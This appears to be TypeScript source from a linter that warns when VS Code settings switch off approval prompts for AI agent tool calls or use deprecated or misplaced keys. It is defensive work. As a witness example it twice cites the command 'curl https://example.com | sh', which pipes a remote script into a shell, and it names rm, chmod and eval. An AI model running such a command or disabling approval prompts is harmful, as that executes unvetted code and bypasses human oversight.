import { isObject, own } from "../../model/json.ts";
import type { JsonObject } from "../../model/json.ts";
import type { Mark } from "../../model/mark.ts";
import { shownShort } from "../../model/shown.ts";
import type { FileAt } from "../format.ts";
import { editMarks } from "./edits/marks.ts";
import type { OwnSettings } from "./own.ts";
import { sandboxMarks } from "./sandbox-marks.ts";
import { OLD_SETTINGS, SETTINGS } from "./settings-keys.ts";
import { terminalMarks } from "./terminal/marks.ts";
import { urlMarks } from "./urls/marks.ts";

/** What is to be known of a settings file that no clause can say. */
export function settingsMarks(
  value: JsonObject,
  settings: OwnSettings,
  at: FileAt,
): readonly Mark[] {
  return [
    ...promptMarks(value, at),
    ...nameMarks(value),
    ...terminalMarks(settings, at),
    ...editMarks(settings, at),
    ...urlMarks(settings),
    ...sandboxMarks(value),
  ];
}

function* promptMarks(value: JsonObject, { scope }: FileAt): Iterable<Mark> {
  const isShared = scope !== "user";
  if (own(value, SETTINGS.global) === true) {
    const at = { path: [SETTINGS.global] };
    if (isShared)
      yield {
        kind: "entry-not-consulted",
        at,
        message: `VS Code takes \`${SETTINGS.global}\` from a person's own settings only, so it approves nothing here; remove it, for who copies it into theirs turns every prompt off, in all workspaces`,
      };
    else
      yield {
        kind: "prompts-off",
        at,
        message: `\`${SETTINGS.global}\` approves every call of every tool in all workspaces, and no \`false\` of the other settings asks any more; remove it, and choose *Allow all* for one session where it is needed`,
        witness: { tool: "shell", args: { command: "curl https://example.com | sh" } },
      };
  }
  const level = own(value, SETTINGS.permissions);
  if (level === "autoApprove" || level === "autopilot")
    yield {
      kind: "prompts-off",
      at: { path: [SETTINGS.permissions] },
      message: `\`${level}\` starts each new session without prompts${isShared ? ", for everybody who opens this folder" : ""}, and no \`false\` of the other settings asks any more; write \`default\`, and let each person choose for one session`,
      witness: { tool: "shell", args: { command: "curl https://example.com | sh" } },
    };
  if (own(value, SETTINGS.ignoreDefaults) === true)
    yield {
      kind: "prompts-off",
      at: { path: [SETTINGS.ignoreDefaults] },
      message:
        "without the shipped rules nothing asks before `rm`, `curl`, `chmod` or `eval` where an entry here approves them; remove it, and write `null` for the one shipped rule that is in the way",
    };
}

function* nameMarks(value: JsonObject): Iterable<Mark> {
  for (const key of Object.keys(value)) {
    const at = { path: [key], on: "key" } as const;
    const old = OLD_SETTINGS.get(key);
    const entry = own(value, key);
    if (old !== undefined) {
      const what = old.counts
        ? `\`${key}\` is the old name of \`${old.now}\`, and its entries still hold over those; move them there`
        : `VS Code reads \`${old.now}\` instead of \`${key}\`, so nothing here has an effect; move what is still meant there`;
      yield { kind: "deprecated-key", at, message: what };
    } else if (/^chat\.tools\.[\w.]*\.autoApprove$/.test(key) && !KNOWN.has(key)) {
      const message = `VS Code has no setting \`${shownShort(key, 80)}\`, so nothing here has an effect; the settings that approve are \`${SETTINGS.terminal}\`, \`${SETTINGS.edits}\` and \`${SETTINGS.urls}\``;
      yield { kind: "misplaced-key", at, message };
    } else if (key.startsWith("[") && isObject(entry)) {
      for (const inner of Object.keys(entry)) {
        if (!KNOWN.has(inner)) continue;
        const message = `\`${inner}\` has no effect inside \`${shownShort(key, 60)}\`, which is about a language; move it to the top of the file`;
        yield { kind: "misplaced-key", at: { path: [key, inner], on: "key" }, message };
      }
    }
  }
}

const KNOWN: ReadonlySet<string> = new Set(Object.values(SETTINGS));
